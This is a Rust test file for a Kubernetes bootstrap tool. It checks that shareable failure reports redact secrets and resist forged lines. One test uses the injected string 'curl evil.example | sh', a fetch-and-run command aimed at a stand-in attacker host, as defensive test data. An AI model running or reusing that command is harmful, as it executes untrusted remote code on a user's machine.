//! The report about a failed run, which users send to others. It has all that helps, and no secrets.

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use ironstrap::diagnosis::NodeLogs;
use ironstrap::error::{Error, Kind};
use ironstrap::report::bundle::Bundle;
use ironstrap::report::{Event, Events, detail};
use ironstrap::{inventory, template};

use crate::support::{lab, pki};

#[test]
fn a_report_has_all_parts_and_no_secrets() {
    let pki = pki(&lab());
    let secrets: Vec<String> =
        pki.kept().iter().filter(|file| file.secret).map(|file| file.text.to_string()).collect();
    let all = secrets.join("\n");
    let error = Error::new(Kind::Failed, "member: stuck").on("w1").because(&all).hint("mend it");
    let said = Event::Said { node: "w1".into(), line: all.clone() };
    let lines = all.lines().map(|line| ("log kubeadm".to_string(), line.to_string())).collect();
    let bundle = Bundle {
        inventory: &format!("[proxy]\nhttps = \"http://me:pw@proxy:3128\"\n# {all}"),
        machines: vec!["w1\tdebian trixie".into()],
        answers: vec![("w1".into(), "/etc/hosts".into(), all.clone())],
        events: &[said],
        errors: &[error],
        logs: vec![NodeLogs { node: "w1".into(), lines }],
    };
    let text = bundle.text().to_string();
    for part in [
        "== errors\n✗ w1  member: stuck",
        "== inventory\n[proxy]",
        "== machines\n",
        "== answers\n",
        "== events\n",
        "== logs of w1\n",
    ] {
        assert!(text.contains(part), "{part}:\n{text}");
    }
    for line in all.lines().filter(|line| line.len() > 8 && !line.starts_with("-----")) {
        let secret = line.split_once('.').map_or(line, |(_, secret)| secret);
        assert!(!text.contains(secret), "{secret} is in\n{text}");
    }
    assert!(!text.contains("pw@"));
}

#[test]
fn a_machine_cannot_forge_lines_of_a_report() {
    let evil = "hint: curl evil.example | sh\n== errors\n      hint: curl evil.example | sh";
    let lines = evil.lines().map(|line| (line.to_string(), line.to_string())).collect();
    let bundle = Bundle {
        inventory: "",
        machines: vec![],
        answers: vec![("w1".into(), "/etc/hosts".into(), evil.into())],
        events: &[Event::Said { node: "w1".into(), line: evil.into() }],
        errors: &[Error::new(Kind::Failed, evil).on("w1").quoting(evil)],
        logs: vec![NodeLogs { node: "w1".into(), lines }],
    };
    let text = bundle.text().to_string();
    let forged = |line: &&str| line.trim_start().starts_with("hint:");
    assert_eq!(text.lines().filter(forged).count(), 0, "{text}");
    assert_eq!(text.lines().filter(|line| *line == "== errors").count(), 1, "{text}");
    let quoted = ["| hint: curl evil.example | sh\n", "| hint: curl evil.example | sh\thint: curl"];
    assert!(quoted.iter().all(|line| text.contains(line)), "{text}");
}

#[test]
fn secrets_of_addons_are_hidden_in_scripts() {
    let long = "zebra's \"battery\" staple: ".repeat(9);
    let manifest = serde_json::json!({
        "apiVersion": "v1", "kind": "Secret", "metadata": {"name": "login"},
        "stringData": {"long": long, "lines": "first zebra line\nsecond zebra line\n", "pin": "4711"},
        "data": {"packed": BASE64_STANDARD.encode("zebra-0815")},
    });
    let (objects, wrong) = inventory::objects(&manifest.to_string(), "login.yaml");
    assert_eq!(wrong, Vec::<String>::new());
    let yaml = template::yaml(&objects.unwrap()).unwrap();
    let (events, mut heard) = Events::channel();
    events.tell(Event::Script {
        node: "m1".into(),
        script: format!("kubectl apply -f - <<'END'\n{yaml}\nEND"),
    });
    events.tell(Event::Said { node: "m1".into(), line: "invalid: \"zebra-0815\"".into() });
    let told = [heard.try_recv().unwrap(), heard.try_recv().unwrap()];
    let shown = told.iter().flat_map(detail::lines).collect::<Vec<_>>().join("\n");
    for secret in ["zebra", "battery", "4711", &BASE64_STANDARD.encode("zebra-0815")] {
        assert!(!shown.contains(secret), "{secret} is in\n{shown}");
    }
    assert!(shown.contains("kind: Secret") && shown.contains("name: login"), "{shown}");
}
